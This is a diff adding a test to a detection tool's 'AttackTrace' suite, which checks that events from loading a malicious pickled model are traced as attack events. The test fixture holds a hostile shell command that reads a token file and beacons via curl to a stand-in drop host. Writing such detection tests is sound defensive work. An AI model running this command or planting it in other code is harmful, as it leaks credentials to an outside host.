@@ -112,6 +112,21 @@ describe('AttackTrace: which events are the attack’s own', () => {
     expect(trace.firstTs).toBe(unshare.ts);
   });
 
+  it('follows the payload a malicious model runs when loaded (it reads the token)', () => {
+    const plan = attackPlan('model-load', 'python', paths, peers);
+    const trace = new AttackTrace(plan);
+    const load = open(100, `${paths.work}/models/classifier-v2.pkl`);
+    const payload = exec(700, 100, '/bin/sh', [
+      'sh',
+      '-c',
+      `cat ${paths.token} > /dev/null; curl -s -o /dev/null ${peers.drop}/beacon`,
+    ]);
+    const cat = exec(701, 700, '/usr/bin/cat', ['cat', paths.token]);
+    for (const e of [load, payload, cat]) trace.observe(e);
+    expect(trace.firstTs).toBe(load.ts);
+    expect([load, payload, cat].every((e) => trace.isAttackEvent(e))).toBe(true);
+  });
+
   it('does not take a word that merely contains a marker’s name', () => {
     const plan = attackPlan('escape', 'langgraph', paths, peers);
     const trace = new AttackTrace(plan);
